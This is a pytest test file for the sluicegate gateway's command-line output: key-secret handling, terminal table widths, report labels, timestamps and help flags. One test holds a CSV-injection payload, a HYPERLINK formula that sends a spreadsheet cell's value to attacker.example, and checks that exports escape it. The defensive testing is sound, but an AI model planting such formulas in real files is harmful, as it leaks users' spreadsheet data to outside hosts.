"""What the command line prints: commands that make no key run without the key secret; tables
keep ids and names whole in an 80-column terminal; report rows without a value are labelled
as on the dashboard; times and overrides are readable; every keys command takes ``--json``;
help shows flags as flags.

Commands run in-process through ``main()`` (rich reads the terminal's width from ``COLUMNS``
when it builds its console, at each command), except those on PostgreSQL, which run as the
installed script (in-process, the CLI's pooled connections would outlive the test's
throwaway database).
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import subprocess
import sys
import time
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
import yaml

from sluicegate.accounting.records import Outcome, UsageRecord
from sluicegate.admin.service import AdminError, AdminService
from sluicegate.cli.main import main
from sluicegate.config.loader import load_config
from sluicegate.storage.engine import create_engine_for
from sluicegate.storage.migrations import migrate
from sluicegate.storage.subscriptions import SubscriptionRepository
from tests.accounting.conftest import write_ledger
from tests.support.pg import throwaway_database

SECRET = "cli-output-key-secret-0123456789"
SCRIPT = str(Path(sys.executable).parent / "sluicegate")

# Names as long as real Azure ones: an 80-column table cannot hold them side by side.
DEPLOYMENT = "gpt-4o-mini-global-standard"
BACKEND = "swedencentral-ptu-primary"
MODEL = "gpt-4o-mini-2024-07-18"


def write_config(tmp_path: Path, url: str, **extra: Any) -> Path:
    data: dict[str, Any] = {
        "storage": {"url": url, "spill_dir": str(tmp_path / "spill")},
        "backends": [{"name": BACKEND, "url": "http://127.0.0.1:9"}],
        "deployments": [{"name": DEPLOYMENT, "backend": BACKEND, "model": "gpt-4o-mini"}],
        "products": [{"name": "p"}],
        "prices": [{"deployment": DEPLOYMENT, "input": 1, "output": 2}],
        **extra,
    }
    path = tmp_path / "gateway.yaml"
    path.write_text(yaml.safe_dump(data))
    return path


def sqlite_config(tmp_path: Path) -> Path:
    return write_config(tmp_path, f"sqlite:///{tmp_path / 'l.db'}")


def run_cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    capsys.readouterr()
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def run_script(*argv: str, cwd: Path, secret: bool) -> subprocess.CompletedProcess[str]:
    env = {"PATH": "/usr/bin:/bin", "COLUMNS": "80"}
    if secret:
        env["SLUICEGATE_KEY_SECRET"] = SECRET
    return subprocess.run(
        [SCRIPT, *argv], capture_output=True, text=True, timeout=60, cwd=cwd, env=env
    )


def create_key(capsys: pytest.CaptureFixture[str], config: Path, **fields: str) -> dict[str, Any]:
    args = {"product": "p", "owner": "platform-team", "name": "A rather long display name"}
    args.update(fields)
    argv = ["keys", "create", "-c", str(config), "--json"]
    for option, value in args.items():
        argv += [f"--{option}", value]
    code, out, err = run_cli(capsys, *argv)
    assert code == 0, err
    created: dict[str, Any] = json.loads(out)
    return created


def write_records(config: Path, tmp_path: Path, records: list[UsageRecord]) -> None:
    url = load_config(config).storage.url
    migrate(url)
    engine = create_engine_for(url)
    write_ledger(engine, tmp_path, records)
    engine.dispose()


def record(i: int, ts: float, subscription_id: str | None, *, refused: bool) -> UsageRecord:
    """A served request, or one refused before routing (no backend, deployment or model)."""
    return UsageRecord(
        request_id=f"r{i}",
        ts=ts,
        subscription_id=subscription_id,
        owner=None if subscription_id is None else "platform-team",
        product=None if subscription_id is None else "p",
        deployment=None if refused else DEPLOYMENT,
        backend=None if refused else BACKEND,
        operation="chat/completions",
        status=429 if refused else 200,
        outcome=Outcome.REJECTED if refused else Outcome.OK,
        model=None if refused else MODEL,
        prompt_tokens=0 if refused else 1000,
        completion_tokens=0 if refused else 200,
        total_tokens=0 if refused else 1200,
    )


def recent() -> float:
    """A moment a few seconds ago, in this month (the forecast's) and in the reports' range."""
    now = time.time()
    month = datetime.fromtimestamp(now, UTC).replace(day=1, hour=0, minute=0, second=0)
    return max(now - 5, month.timestamp())


# -- 1. the key secret only where a key is made ------------------------------------------------


def test_commands_that_make_no_key_run_without_the_key_secret(tmp_path: Path) -> None:
    with throwaway_database() as url:
        config = write_config(
            tmp_path, url, mode="cluster", redis={"url": "redis://127.0.0.1:6379/0"}
        )
        c = ["-c", str(config)]
        done = run_script(
            "keys", "create", *c, "--product", "p", "--owner", "o", "--name", "n", "--json",
            cwd=tmp_path, secret=True,
        )  # fmt: skip
        assert done.returncode == 0, done.stderr
        sub_id = json.loads(done.stdout)["id"]

        # Without SLUICEGATE_KEY_SECRET: everything but making a key works.
        for argv in (
            ["keys", "list", "--json"],
            ["keys", "show", sub_id, "--json"],
            ["keys", "suspend", sub_id],
            ["keys", "resume", sub_id],
            ["usage", "report", "--format", "json"],
            ["usage", "report"],
            ["forecast", "--json"],
            ["forecast"],
        ):
            done = run_script(*argv, *c, cwd=tmp_path, secret=False)
            assert done.returncode == 0, (argv, done.stderr)
            assert "key secret" not in done.stderr
        listed = run_script("keys", "list", *c, "--json", cwd=tmp_path, secret=False)
        (before,) = json.loads(listed.stdout)["items"]
        assert before["id"] == sub_id

        # Making a key needs it, and says so in one line; nothing is changed.
        for argv in (
            ["keys", "create", "--product", "p", "--owner", "o", "--name", "n2"],
            ["keys", "rotate", sub_id],
        ):
            done = run_script(*argv, *c, cwd=tmp_path, secret=False)
            assert done.returncode == 1
            assert done.stdout == ""
            assert done.stderr == (
                "error: key secret: environment variable SLUICEGATE_KEY_SECRET must hold the "
                "key secret\n"
            )
        listed = run_script("keys", "list", *c, "--json", cwd=tmp_path, secret=False)
        assert json.loads(listed.stdout)["items"] == [before]


def test_a_service_without_a_hasher_refuses_to_make_a_key(tmp_path: Path) -> None:
    config = load_config(sqlite_config(tmp_path))
    migrate(config.storage.url)
    engine = create_engine_for(config.storage.url)
    try:
        service = AdminService(config, SubscriptionRepository(engine), None, engine=engine)
        with pytest.raises(AdminError, match="making a key needs the key secret") as info:
            service.create_subscription(product="p", owner="o", name="n")
        assert info.value.status == 503
        assert service.list() == ([], 0)  # nothing stored
    finally:
        engine.dispose()


# -- 2. tables in a narrow terminal ----------------------------------------------------------


@pytest.mark.parametrize("columns", ["80", "100"])
def test_keys_list_shows_whole_ids_in_a_narrow_terminal(
    columns: str,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("SLUICEGATE_KEY_SECRET", SECRET)
    config = sqlite_config(tmp_path)
    subs = [
        create_key(capsys, config, owner="platform-engineering-team", name=f"Batch job {i} " * 3)
        for i in range(3)
    ]
    monkeypatch.setenv("COLUMNS", columns)
    code, out, err = run_cli(capsys, "keys", "list", "-c", str(config))
    assert code == 0, err
    assert max(len(line) for line in out.splitlines()) <= int(columns)
    for sub in subs:
        assert sub["id"] in out
        assert sub["primary_key_prefix"] in out
    # Every id the table shows is one `keys show` takes.
    for shown in re.findall(r"\bsub_\S*", out):
        code, _, err = run_cli(capsys, "keys", "show", shown, "-c", str(config))
        assert code == 0, err


def test_backends_keeps_names_whole_in_80_columns(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    config = sqlite_config(tmp_path)
    monkeypatch.setenv("COLUMNS", "80")
    code, out, err = run_cli(capsys, "backends", "-c", str(config))
    assert code == 0, err
    assert "…" not in out
    assert max(len(line) for line in out.splitlines()) <= 80
    for name in (DEPLOYMENT, BACKEND):
        assert name in out
    assert "prio 1, weight 1, paygo; state: unknown" in out
    # Where the whole table fits, it is a table.
    monkeypatch.setenv("COLUMNS", "250")
    code, out, err = run_cli(capsys, "backends", "-c", str(config))
    assert code == 0, err
    row = next(line for line in out.splitlines() if DEPLOYMENT in line)
    assert re.search(rf"│ {DEPLOYMENT} +│ {BACKEND} +│ {DEPLOYMENT} +│ +1 │ +1 │ paygo", row)


def test_reports_and_forecasts_show_whole_subscription_ids_in_80_columns(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SLUICEGATE_KEY_SECRET", SECRET)
    config = sqlite_config(tmp_path)
    ids = [create_key(capsys, config)["id"] for _ in range(2)]
    ts = recent()
    write_records(config, tmp_path, [record(i, ts, ids[i % 2], refused=False) for i in range(4)])
    monkeypatch.setenv("COLUMNS", "80")
    for argv in (["usage", "report", "--by", "subscription"], ["forecast"]):
        code, out, err = run_cli(capsys, *argv, "-c", str(config))
        assert code == 0, err
        for sub_id in ids:
            assert sub_id in out, out


# -- 3. the rows of requests without a backend, deployment, … ----------------------------------


@pytest.mark.parametrize("by", ["backend", "deployment", "model", "subscription"])
def test_a_report_labels_the_group_without_a_value_as_the_dashboard_does(
    by: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    config = sqlite_config(tmp_path)
    ts = recent()
    served = [record(i, ts, "sub_0123456789abcdef", refused=False) for i in range(3)]
    refused = [record(10 + i, ts, None, refused=True) for i in range(7)]
    write_records(config, tmp_path, served + refused)
    c = ["-c", str(config), "--by", by]
    monkeypatch.setenv("COLUMNS", "120")

    code, out, err = run_cli(capsys, "usage", "report", *c)
    assert code == 0, err
    assert "None" not in out
    row = next(line for line in out.splitlines() if line.startswith("│ (none) "))
    assert re.match(r"│ \(none\) +│ +7 │ +0 │", row), row
    assert "(none): requests" in out  # what the row counts, under the table

    # JSON keeps null, CSV an empty key, as the admin API (and the dashboard's download).
    code, out, err = run_cli(capsys, "usage", "report", *c, "--format", "json")
    assert code == 0, err
    keys = {r["key"]: r["requests"] for r in json.loads(out)["rows"]}
    assert keys[None] == 7
    code, out, err = run_cli(capsys, "usage", "report", *c, "--format", "csv")
    assert code == 0, err
    rows = {r["key"]: r["requests"] for r in csv.DictReader(io.StringIO(out))}
    assert rows[""] == "7"


def test_a_csv_report_writes_a_name_a_spreadsheet_would_run_as_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Owners are names teams chose: one starting with ``=`` (or ``+ - @``) is written with a
    leading ``'``, so that a spreadsheet opening the export shows it instead of running it."""
    config = sqlite_config(tmp_path)
    ts = recent()
    hostile = '=HYPERLINK("http://attacker.example/?x="&A1,"open")'
    records = [record(i, ts, "sub_0123456789abcdef", refused=False) for i in range(2)]
    records[0] = dataclasses.replace(records[0], owner=hostile)
    write_records(config, tmp_path, records)
    code, out, err = run_cli(
        capsys, "usage", "report", "-c", str(config), "--by", "owner", "--format", "csv"
    )
    assert code == 0, err
    keys = [r["key"] for r in csv.DictReader(io.StringIO(out))]
    assert "'" + hostile in keys
    assert "platform-team" in keys  # other names as they are
    assert hostile not in keys


# -- 4. readable fields, --json everywhere, flags in help --------------------------------------

ISO_UTC = r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ"


def test_keys_create_and_show_print_iso_times_and_json_overrides(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SLUICEGATE_KEY_SECRET", SECRET)
    config_path = sqlite_config(tmp_path)
    c = ["-c", str(config_path)]
    code, out, err = run_cli(
        capsys, "keys", "create", *c, "--product", "p", "--owner", "o", "--name", "n",
        "--expires-in-days", "10",
    )  # fmt: skip
    assert code == 0, err
    fields = dict(line.strip().split(": ", 1) for line in out.splitlines() if ": " in line)
    for name in ("created_at", "updated_at", "expires_at"):
        assert re.fullmatch(ISO_UTC, fields[name]), fields[name]
    assert fields["overrides"] == "{}"
    sub_id = fields["id"]

    # The same subscription with limit overrides (set as the admin API does) and no expiry.
    config = load_config(config_path)
    engine = create_engine_for(config.storage.url)
    try:
        service = AdminService(config, SubscriptionRepository(engine), None, engine=engine)
        service.set_overrides(sub_id, {"limits": {"tokens_per_minute": 5000}})
    finally:
        engine.dispose()
    code, out, err = run_cli(capsys, "keys", "show", sub_id, *c)
    assert code == 0, err
    fields = dict(line.strip().split(": ", 1) for line in out.splitlines() if ": " in line)
    assert json.loads(fields["overrides"]) == {"limits": {"tokens_per_minute": 5000}}
    created = datetime.strptime(fields["created_at"], "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=UTC)
    assert abs(created.timestamp() - time.time()) < 600

    code, out, err = run_cli(capsys, "keys", "show", sub_id, *c, "--json")
    assert code == 0, err
    data = json.loads(out)
    assert isinstance(data["created_at"], float) and isinstance(data["expires_at"], float)
    assert abs(data["created_at"] - created.timestamp()) < 1


@pytest.mark.parametrize(
    ("action", "state"), [("suspend", "suspended"), ("resume", "active"), ("cancel", "cancelled")]
)
def test_state_commands_take_json(
    action: str,
    state: str,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("SLUICEGATE_KEY_SECRET", SECRET)
    config = sqlite_config(tmp_path)
    sub = create_key(capsys, config)
    code, out, err = run_cli(capsys, "keys", action, sub["id"], "-c", str(config), "--json")
    assert code == 0, err
    data = json.loads(out)
    assert data["id"] == sub["id"] and data["state"] == state
    assert data["primary_key_prefix"] == sub["primary_key_prefix"]
    code, out, err = run_cli(capsys, "keys", action, sub["id"], "-c", str(config))
    assert code == 0, err
    assert out == f"{sub['id']}: {state}\n"


HELP_SCREENS = [
    [],
    ["serve"],
    ["config"],
    ["config", "check"],
    ["keys"],
    ["keys", "create"],
    ["keys", "list"],
    ["keys", "show"],
    ["keys", "suspend"],
    ["keys", "resume"],
    ["keys", "cancel"],
    ["keys", "rotate"],
    ["usage"],
    ["usage", "report"],
    ["forecast"],
    ["backends"],
    ["simulate"],
    ["demo"],
]


@pytest.mark.parametrize("argv", HELP_SCREENS, ids=lambda a: " ".join(a) or "sluicegate")
def test_help_shows_flags_without_a_value(
    argv: list[str], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "120")
    code, out, _ = run_cli(capsys, *argv, "--help")
    assert code == 0
    assert re.search(r"--help +Show this message and exit\.", out), out
    assert "<bool>" not in out
    if argv in WITH_JSON:
        assert re.search(r"│ +--json +(Print|│)", out), out


#: Commands that take ``--json`` (every keys command among them).
WITH_JSON = [
    ["keys", action]
    for action in ("create", "list", "show", "suspend", "resume", "cancel", "rotate")
] + [["forecast"], ["backends"]]
